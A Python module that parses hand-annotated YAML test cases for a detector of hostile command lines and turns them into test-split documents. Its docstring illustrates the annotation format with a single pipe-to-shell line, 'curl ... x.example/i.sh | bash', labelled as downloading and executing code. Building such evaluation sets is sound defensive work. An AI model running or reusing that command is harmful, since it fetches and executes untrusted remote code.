"""Cases written by hand, apart from the generator: they measure what the detector has learned, nothing learns from them.

A file `cases/NAME.yaml` holds cases separated by `---`. A case begins with a comment that tells what it is. Below a line
that has a meaning stands a comment with carets under the decisive characters and the labels of that line:

    # case: installed from the net
            - curl -s https://x.example/i.sh | bash
    #         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ command-downloads-and-executes

Both kinds of comments stand at the first column, so that they do not disturb block scalars, and are not part of the text.
A line without carets has none of the meanings.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

from .documents import MEANINGS, Document

BORDER = re.compile(r"^---\n", re.MULTILINE)
TITLE = re.compile(r"# case: (\S.*)")
UNSURE = "unsure"
"""Instead of labels: nobody knows. Nothing that is measured says so."""
LABEL = "|".join(map(re.escape, (*MEANINGS, UNSURE)))
ANNOTATION = re.compile(rf"#\s*(\^+)((?: (?:{LABEL}))+)\s*")
CARETS = re.compile(r"#\s*\^")
"""What is meant as an annotation, whether or not it is a right one."""


@dataclass
class Mark:
    """What an annotation says of a line: its labels, and the columns that decide."""

    line: int
    columns: range
    labels: list[str]


@dataclass
class Case:
    """One case: what it is, its text as the detector sees it, and what is to be found."""

    title: str
    text: str
    marks: list[Mark] = field(default_factory=list)


class BadCase(ValueError):
    """A case that breaks the format."""


def parse(source: str) -> list[Case]:
    """The cases of one file. Raises `BadCase` where the format is broken, for a lost label would falsify what is measured."""
    return [parse_case(part.strip("\n")) for part in BORDER.split(source)]


def parse_case(source: str) -> Case:
    """One case from its lines."""
    first, *rest = source.split("\n")
    title = TITLE.fullmatch(first)
    if title is None:
        raise BadCase(f"a case begins with `# case: what it is`, not with `{first}`")
    lines: list[str] = []
    marks: list[Mark] = []
    for line in rest:
        if CARETS.match(line):
            marks.append(mark(line, lines, title[1]))
        else:
            lines.append(line)
    return Case(title[1], "\n".join(lines) + "\n", marks)


def mark(annotation: str, above: list[str], title: str) -> Mark:
    """The mark that an annotation makes on the last of the lines above it."""
    match = ANNOTATION.fullmatch(annotation)
    if match is None:
        raise BadCase(f"{title}: `{annotation}` is not carets and known labels")
    columns = range(*match.span(1))
    if not above or columns.stop > len(above[-1]) or " " in (above[-1][columns.start], above[-1][columns.stop - 1]):
        raise BadCase(f"{title}: the carets of `{annotation}` do not lie under text of the line before")
    return Mark(len(above) - 1, columns, match[2].split())


def read(folder: Path) -> Iterator[Document]:
    """All cases of a folder as documents of the test split, file by file. Only their meanings are known."""
    for path in sorted(folder.glob("*.yaml")):
        for number, case in enumerate(parse(path.read_text(encoding="utf-8")), start=1):
            yield Document(
                id=f"case/{path.stem}/{number}",
                family=f"case/{path.stem}",
                split="test",
                text=case.text,
                labels=[(mark.line, label) for mark in case.marks for label in mark.labels],
                judged=False,
            )
